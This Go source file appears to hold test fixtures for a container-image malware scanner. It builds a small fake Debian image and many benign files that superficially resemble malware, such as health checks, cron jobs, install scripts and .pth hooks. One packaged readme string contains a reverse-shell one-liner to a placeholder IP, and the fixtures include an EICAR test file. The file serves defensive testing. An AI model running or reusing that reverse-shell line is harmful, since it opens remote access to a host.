package main

import (
	"crypto/md5"
	"encoding/hex"
	"fmt"
	"strings"

	"tidewaiter/image/imagetest"
)

// ownedScript is a script as its package installed it.
const ownedScript = "#! /bin/sh\nset -ef\nif test -n \"$KSH_VERSION\"; then\n\tputs() { print -r -- \"$*\"; }\nfi\nexit 0\n"

// debianFiles are a small Debian: packages, their lists of files, and these.
func debianFiles() []imagetest.File {
	owned := []struct {
		name, content string
		mode          int64
	}{
		{"usr/bin/which", ownedScript, 0o755},
		{"usr/bin/su", program(true, true, "", 2000), 0o4755},
		{"usr/share/packaged/readme.txt", "To test: bash -i >& /dev/tcp/192.0.2.1/4444 0>&1\n", 0o644},
		{"usr/share/packaged/example.key", testPrivateKey("packaged"), 0o644},
		{"etc/cron.daily/apt-compat", "#!/bin/sh\nset -e\nexec /usr/lib/apt/apt.systemd.daily\n", 0o755},
		{"usr/share/packaged/eicar.com", "", 0},
	}
	var list, sums strings.Builder
	files := []imagetest.File{
		{Name: "etc/os-release", Content: osRelease},
		{Name: "etc/passwd", Content: "root:x:0:0:root:/root:/bin/bash\nwww-data:x:33:33:www-data:/var/www:/usr/sbin/nologin\nnode:x:1000:1000::/home/node:/bin/sh\n"},
		{Name: "etc/shadow", Content: "root:*:20000:0:99999:7:::\nwww-data:*:20000:0:99999:7:::\nnode:!:20000::::::\n", Mode: 0o640},
		{Name: "tmp/", Mode: 0o1777}, {Name: "var/tmp/", Mode: 0o1777},
		{Name: "var/lib/dpkg/status", Content: status + "\nPackage: packaged\nStatus: install ok installed\nMaintainer: A <a@example.test>\nArchitecture: amd64\nVersion: 1.0-1\nDescription: packaged things\n"},
	}
	list.WriteString("/.\n")
	for _, o := range owned {
		fmt.Fprintf(&list, "/%s\n", o.name)
		sum := md5.Sum([]byte(o.content))
		if o.mode == 0 { // a later layer brings it
			sum = md5.Sum([]byte(eicar()))
		} else {
			files = append(files, imagetest.File{Name: o.name, Content: o.content, Mode: o.mode})
		}
		fmt.Fprintf(&sums, "%s  %s\n", hex.EncodeToString(sum[:]), o.name)
	}
	return append(files, imagetest.File{Name: "var/lib/dpkg/info/packaged.list", Content: list.String()},
		imagetest.File{Name: "var/lib/dpkg/info/packaged.md5sums", Content: sums.String()})
}

// honestPlants are files as honest images have them that look a little like what malware has.
func honestPlants() []plant {
	contents := map[string]string{
		"usr/local/bin/wait-for-it.sh": "#!/usr/bin/env bash\nwait_for()\n{\n    while :\n    do\n        (echo -n > /dev/tcp/$WAITFORIT_HOST/$WAITFORIT_PORT) >/dev/null 2>&1\n        WAITFORIT_result=$?\n" +
			"        nc -z $WAITFORIT_HOST $WAITFORIT_PORT\n        sleep 1\n    done\n}\nexec \"$@\"\n",
		"usr/local/bin/docker-entrypoint.sh":                      "#!/bin/sh\nset -e\nif [ \"${1#-}\" != \"${1}\" ] || [ -z \"$(command -v \"${1}\")\" ]; then\n  set -- node \"$@\"\nfi\nexec \"$@\"\n",
		"usr/local/bin/install.sh":                                "#!/bin/sh\n# usage: curl -fsSL https://get.example.com | sh\nset -e\ncurl -fsSL -o /tmp/x.tar.gz https://example.com/x.tar.gz\necho \"$SHA  /tmp/x.tar.gz\" | sha256sum -c -\ntar xzf /tmp/x.tar.gz -C /usr/local\n",
		"usr/local/bin/health.sh":                                 "#!/bin/bash\nexec 3<>/dev/tcp/127.0.0.1/8080\nprintf 'GET /health HTTP/1.0\\r\\n\\r\\n' >&3\ngrep -q 200 <&3\n",
		"etc/cron.d/backup":                                       "SHELL=/bin/sh\n0 3 * * * root /usr/local/bin/backup.sh >/dev/null 2>&1\n*/5 * * * * www-data curl -fsS https://hc.example.com/ping/1 >/dev/null\n30 3 * * 0 root test -e /run/systemd/system || /usr/lib/e2fsprogs/e2scrub_all_cron\n",
		"etc/crontabs/root":                                       "# do daily/weekly/monthly maintenance\n# min\thour\tday\tmonth\tweekday\tcommand\n*/15\t*\t*\t*\t*\trun-parts /etc/periodic/15min\n",
		"etc/profile.d/nvm.sh":                                    "export NVM_DIR=\"$HOME/.nvm\"\n[ -s \"$NVM_DIR/nvm.sh\" ] && \\. \"$NVM_DIR/nvm.sh\"\neval \"$(pyenv init -)\"\nsource <(kubectl completion bash)\n",
		"root/.bashrc":                                            "# ~/.bashrc\nPS1='${debian_chroot:+($debian_chroot)}\\h:\\w\\$ '\nalias serve='python3 -m http.server'\neval \"`dircolors`\"\n",
		"etc/systemd/system/app.service":                          "[Unit]\nAfter=network.target\n[Service]\nExecStart=/usr/local/bin/app --listen :8080\nExecStartPost=/usr/bin/curl -fs http://127.0.0.1:8080/ready\n",
		"etc/rc.local":                                            "#!/bin/sh -e\nexit 0\n",
		"app/package.json":                                        `{"name":"app","version":"1.0.0","scripts":{"postinstall":"node-gyp rebuild && husky install","preinstall":"npx only-allow pnpm","prepare":"husky","install":"node install.js","start":"node server.js"}}`,
		"app/node_modules/esbuild/package.json":                   `{"name":"esbuild","version":"0.19.0","scripts":{"postinstall":"node install.js"}}`,
		"app/node_modules/esbuild/install.js":                     "const https=require('https');\nfunction fetch(url){return new Promise((resolve,reject)=>{https.get(url,(res)=>{const chunks=[];res.on('data',c=>chunks.push(c));res.on('end',()=>resolve(Buffer.concat(chunks)));}).on('error',reject);});}\nconst child_process=require('child_process');\nchild_process.execSync('npm install --loglevel=error --prefer-offline');\n",
		"app/node_modules/shelljs/exec.js":                        "var child=require('child_process');var net=require('net');\nmodule.exports=function(cmd){return child.spawn('/bin/sh',['-c',cmd],{stdio:'inherit'});};\n",
		"app/config.json":                                         `{"pools":[{"url":"https://db.example.com:5432","user":"app","max":10}],"cpu":true,"coin":null}`,
		"app/server.py":                                           "import socket, subprocess, os\ns = socket.socket()\ns.connect(('db', 5432))\nsubprocess.call(['/bin/sh', '-c', 'true'])\nos.dup2(1, 2)\n",
		"app/setup.py":                                            "from setuptools import setup, Command\nimport os, sys, subprocess\nclass Upload(Command):\n    def run(self):\n        os.system('{0} setup.py sdist bdist_wheel'.format(sys.executable))\n        os.system('twine upload dist/*')\nsetup(name='x', version='1', cmdclass={'upload': Upload})\n",
		"app/gems/nokogiri/ext/extconf.rb":                        "require 'mkmf'\nsystem('make', '-v')\nhave_library('xml2')\ncreate_makefile('nokogiri/nokogiri')\n",
		"usr/lib/python3/dist-packages/distutils-precedence.pth":  "import os; var = 'SETUPTOOLS_USE_DISTUTILS'; enabled = os.environ.get(var, 'local') == 'local'; enabled and __import__('_distutils_hack').add_shim(); \n",
		"usr/local/lib/python3.11/site-packages/a1_coverage.pth":  "import sys; exec('try: import coverage; coverage.process_startup()\\nexcept Exception: pass')\n",
		"usr/local/lib/python3.11/site-packages/x-nspkg.pth":      "import sys, types, os;has_mfs = sys.version_info > (3, 5);p = os.path.join(sys._getframe(1).f_locals['sitedir'], *('mpl_toolkits',));importlib = has_mfs and __import__('importlib.util');m = has_mfs and sys.modules.setdefault('mpl_toolkits', types.ModuleType('x'))\n",
		"usr/local/lib/python3.11/site-packages/__editable__.pth": "/app/src\n",
		"usr/lib/python3.11/sitecustomize.py":                     "# install the apport exception handler if available\ntry:\n    import apport_python_hook\nexcept ImportError:\n    pass\nelse:\n    apport_python_hook.install()\n",
		"var/www/html/index.php":                                  "<?php\ndefine('WP_USE_THEMES', true);\nrequire __DIR__ . '/wp-blog-header.php';\n$id = intval($_GET['id']);\n$out = exec('convert ' . escapeshellarg($file));\n$data = json_decode(base64_decode($_POST['payload']));\n",
		"var/www/html/vendor/twig/Environment.php":                "<?php\nclass Environment {\n  public function load($content) { eval('?>'.$content); }\n  function run($command) { return proc_open($command, $descriptors, $pipes); }\n}\n",
		"etc/ld.so.preload":                                       "# nothing\n",
		"opt/tool/README.md":                                      "# tool\n\nInstall: `curl -sSL https://install.example.com | sh`\n",
		"usr/local/etc/xmrig-notes.txt":                           "We block mining pools in our firewall; see docs.\n",
	}
	var list []plant
	for path, content := range contents {
		layer := 1
		if strings.HasPrefix(path, "app/") {
			layer = 3
		}
		list = append(list, plant{layer: layer, path: path, content: content, mode: 0o755})
	}
	return append(list,
		plant{layer: 3, path: "usr/local/bin/app", content: program(false, true, "", 3000), mode: 0o755},                                                // static, as Go's are
		plant{layer: 3, path: "app/bin/tool", content: program(false, false, strings.Repeat("mov eax, [rbx]; call print\x00", 400), 9000), mode: 0o755}, // static and stripped
		plant{layer: 3, path: "app/lib/native.node", content: program(true, true, "", 3000), mode: 0o755},
		plant{layer: 3, path: "opt/data.bin", content: program(true, true, "", 500)[100:]},
	)
}

// honestLab has nothing in it that should not be there.
func honestLab() *lab {
	return &lab{
		plants: append(honestPlants(), honestSecrets()...),
		empty:  []string{"ENV NODE_VERSION=20.11.0", "EXPOSE map[8080/tcp:{}]", "USER node", "HEALTHCHECK &{[\"CMD\" \"/usr/local/bin/health.sh\"] \"30s\" \"0s\" \"0s\" \"0s\" '\\x00'}", "CMD [\"node\" \"server.js\"]"},
		labels: map[string]string{"org.opencontainers.image.revision": "9f3c1e2b7d5a4c6e8f0a1b2c3d4e5f60718293a4", "org.opencontainers.image.source": "https://git.example.test/acme/shop"},
		config: map[string]any{
			"User": "node", "ExposedPorts": map[string]any{"8080/tcp": map[string]any{}}, "Entrypoint": []string{"docker-entrypoint.sh"}, "Cmd": []string{"node", "server.js"},
			"Healthcheck": map[string]any{"Test": []string{"CMD", "/usr/local/bin/health.sh"}},
			"Env": []string{"PATH=/usr/local/sbin:/usr/local/bin:/usr/sbin:/usr/bin:/sbin:/bin", "NODE_VERSION=20.11.0", "YARN_VERSION=1.22.19",
				"GPG_KEY=E3FF2839C048B25C084DEBE9B26995E310250568", "GPG_KEYS=1198C0117593497A5EC5C199286AF1F9897469DC C28D937575603EB4ABB725861C0779DC5C0A9DE4",
				"PYTHON_SHA256=d3b3ba5ab8ba8b7a9f9d3d7e4b9bbf9b0f9f8d1e2a3b4c5d6e7f8091a2b3c4d5", "PYTHON_GET_PIP_SHA256=dfe9fd5c28dc98b5ac17979a953ea550cec37ae1b47a5116007395bfacff2ab9",
				"PHPIZE_DEPS=autoconf dpkg-dev file g++ gcc", "JAVA_HOME=/opt/java/openjdk", "LANG=C.UTF-8", "DB_PASSWORD_FILE=/run/secrets/db", "TOKEN_TTL=3600"},
		},
		instructions: map[int]string{2: "COPY /src /app # buildkit", 3: "RUN /bin/sh -c npm ci --omit=dev && npm cache clean --force # buildkit"},
	}
}
